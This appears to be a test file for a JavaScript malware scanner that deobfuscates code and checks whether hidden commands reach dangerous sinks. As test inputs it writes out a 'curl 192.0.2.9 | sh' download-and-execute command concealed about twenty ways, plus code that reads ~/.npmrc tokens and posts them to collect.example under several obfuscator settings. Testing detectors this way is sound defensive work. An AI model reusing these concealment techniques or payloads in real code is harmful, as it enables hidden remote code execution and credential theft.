import { readFileSync } from 'node:fs';
import JavaScriptObfuscator from 'javascript-obfuscator';
import { describe, expect, it } from 'vitest';
import { flows, follow } from './sample.js';

const spawned = (code: string) => follow(code).observations.find((each) => each.sink === 'process.spawn')?.target;
const WANTED = 'curl 192.0.2.9 | sh';
const INNER = `require('child_process').exec('${WANTED}')`;
const b64 = (text: string) => Buffer.from(text).toString('base64');

/** One way each to hide a command. */
const HIDDEN: Record<string, string> = {
  'split names': "require('chi' + 'ld_pro' + ['c', 'e', 's', 's'].join(''))['ex' + 'ec']('curl 192.0.2.9' + ' | sh')",
  base64: `eval(Buffer.from('${b64(INNER)}', 'base64').toString())`,
  atob: `new Function('require', atob('${b64(INNER)}'))(require)`,
  hex: `eval(Buffer.from('${Buffer.from(INNER).toString('hex')}', 'hex') + '')`,
  'char codes':
    `eval(String.fromCharCode(${[...INNER].map((each) => each.charCodeAt(0) + 3).join(',')}.map ? '' : ''))`.replace(
      /eval\(String.*$/,
      `eval([${[...INNER].map((each) => each.charCodeAt(0) + 3).join(',')}].map((n) => String.fromCharCode(n - 3)).join(''))`,
    ),
  reversed: `eval('${[...INNER.replaceAll("'", '"')].reverse().join('')}'.split('').reverse().join(''))`,
  percent: `eval(unescape('${[...INNER].map((each) => `%${each.charCodeAt(0).toString(16)}`).join('')}'))`,
  xor: `const k = 'key'; eval(Buffer.from('${Buffer.from([...INNER].map((each, index) => each.charCodeAt(0) ^ 'key'.charCodeAt(index % 3))).toString('base64')}', 'base64').map((b, i) => b ^ k.charCodeAt(i % 3)).toString())`,
  'three deep': `eval(atob('${b64(`eval(atob('${b64(`eval(${JSON.stringify(INNER)})`)}'))`)}'))`,
  'Function by constructors': `[].filter.constructor('require', ${JSON.stringify(INNER)})(require)`,
  'indirect eval': `(0, eval)(${JSON.stringify(INNER.replace('require', 'process.mainModule.require'))})`,
  'async function constructor': `Object.getPrototypeOf(async function () {}).constructor('require', ${JSON.stringify(INNER)})(require)`,
  'reflected call': `Reflect.apply(Reflect.get(require('child_process'), 'exec'), null, ['${WANTED}'])`,
  'timer text': `setTimeout(${JSON.stringify(INNER)}, 1)`,
  'data url': `import('data:text/javascript;base64,${b64(INNER)}')`,
  'vm script': `new (require('vm').Script)(${JSON.stringify(INNER)}).runInThisContext()`,
  'global property':
    "globalThis['pro' + 'cess']['main' + 'Module']['req' + 'uire']('child_process').exec('curl 192.0.2.9 | sh')",
  createRequire: "require('module').createRequire(__filename)('child_process').exec('curl 192.0.2.9 | sh')",
  dispatcher:
    "const o = '2|0|1'.split('|'); let i = 0, a, b; while (true) { switch (o[i++]) { case '0': b = a.exec; continue; case '1': b('curl 192.0.2.9 | sh'); continue; case '2': a = require('child_process'); continue; } break; }",
};

describe('decoding', () => {
  for (const [way, code] of Object.entries(HIDDEN)) {
    it(`finds the command behind ${way}`, () => {
      expect(spawned(code)).toBe(WANTED);
    });
  }

  it('deciphers with our own implementation', async () => {
    const { createCipheriv } = await import('node:crypto');
    const cipher = createCipheriv('aes-256-cbc', Buffer.alloc(32, 1), Buffer.alloc(16, 2));
    const hidden = cipher.update(INNER, 'utf8', 'hex') + cipher.final('hex');
    expect(
      spawned(
        `const c = require('crypto'); const d = c.createDecipheriv('aes-256-cbc', Buffer.alloc(32, 1), Buffer.alloc(16, 2)); eval(d.update('${hidden}', 'hex', 'utf8') + d.final('utf8'))`
          .replaceAll('Buffer.alloc(32, 1)', `Buffer.from('${'01'.repeat(32)}', 'hex')`)
          .replaceAll('Buffer.alloc(16, 2)', `Buffer.from('${'02'.repeat(16)}', 'hex')`),
      ),
    ).toBe(WANTED);
  });

  for (const id of ['jsfuck-like', 'jjencode-like', 'aaencode-like']) {
    it(`undoes ${id} by algebra`, () => {
      const result = follow(readFileSync(`fixtures/malicious/${id}/package/index.js`, 'utf8'));
      expect(result.observations.some((each) => each.sink === 'net.out')).toBe(true);
      expect(result.facts.map((fact) => fact.id)).toContain('obfuscated');
    });
  }

  const SOURCE =
    "const fs = require('fs'), os = require('os'), path = require('path'); const s = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); require('https').request({ hostname: 'collect.example', path: '/v1', method: 'POST' }).end(s);";
  const SETS = {
    'a rotated string array': { stringArray: true, stringArrayThreshold: 1 },
    'base64 strings behind wrappers': {
      stringArray: true,
      stringArrayThreshold: 1,
      stringArrayEncoding: ['base64'],
      stringArrayWrappersCount: 2,
      stringArrayWrappersType: 'function',
      splitStrings: true,
    },
    'RC4 strings': {
      stringArray: true,
      stringArrayThreshold: 1,
      stringArrayEncoding: ['rc4'],
      stringArrayWrappersChainedCalls: true,
    },
    'flattened control flow': {
      controlFlowFlattening: true,
      controlFlowFlatteningThreshold: 1,
      deadCodeInjection: true,
      numbersToExpressions: true,
      transformObjectKeys: true,
    },
    'self defence': {
      selfDefending: true,
      stringArray: true,
      stringArrayThreshold: 1,
      stringArrayEncoding: ['rc4'],
      unicodeEscapeSequence: true,
    },
  } as const;
  for (const [name, options] of Object.entries(SETS)) {
    it(`undoes ${name}`, () => {
      const code = JavaScriptObfuscator.obfuscate(SOURCE, {
        seed: 5,
        target: 'node',
        ...(options as object),
      }).getObfuscatedCode();
      expect(code).not.toContain('readFileSync(path');
      const result = follow(code, 'install');
      expect(flows(result, 'secret.file', 'net.out')?.target).toContain('collect.example');
      expect(result.facts.map((fact) => fact.id)).not.toContain('opaque');
    });
  }

  it('calls what stays hidden opaque, with a slice', () => {
    const result = follow(
      `const _0x12ab=[${"'\\x61\\x62\\x63\\x64\\x65\\x66\\x67\\x68',".repeat(20)}];function _0x34cd(_0x1a2b,_0x3c4d){return _0x12ab[_0x1a2b^_0x3c4d];}const _0x55aa=_0x34cd(globalThis._0x99ff,_0x77ee);eval(_0x55aa+globalThis._0x88ee);`,
      'install',
    );
    const opaque = result.facts.find((fact) => fact.id === 'opaque');
    expect(opaque?.steps.at(-1)).toMatchObject({ role: 'sink', file: 'index.js' });
  });
});
